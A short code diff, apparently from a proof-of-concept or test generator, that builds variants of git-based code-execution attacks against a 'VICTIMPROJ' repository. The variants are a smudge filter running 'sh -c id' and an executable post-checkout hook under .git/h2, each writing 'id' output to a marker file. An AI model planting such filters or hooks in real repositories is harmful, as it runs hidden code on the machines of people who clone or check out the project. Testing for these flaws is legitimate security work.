@@ -37,6 +37,7 @@ for name, (note, cfg, attrs) in VARIANTS.items():
         lines.append(T + " write VICTIMPROJ/.git/hc.cfg '[filter \"hc\"]\\n\\tsmudge = "
                      "\\x22sh -c \\x27id > VICTIM/L7-hasconfig; cat\\x27\\x22\\n'")
     if name == "l8":
+        lines.append(T + " mkdir VICTIMPROJ/.git/h2")
         lines.append(T + " write VICTIMPROJ/.git/h2/post-checkout '#!/bin/sh\\nid > VICTIM/L8-hookspath\\n'")
         lines.append("chmod +x VICTIMPROJ/.git/h2/post-checkout")
     if name == "l9":
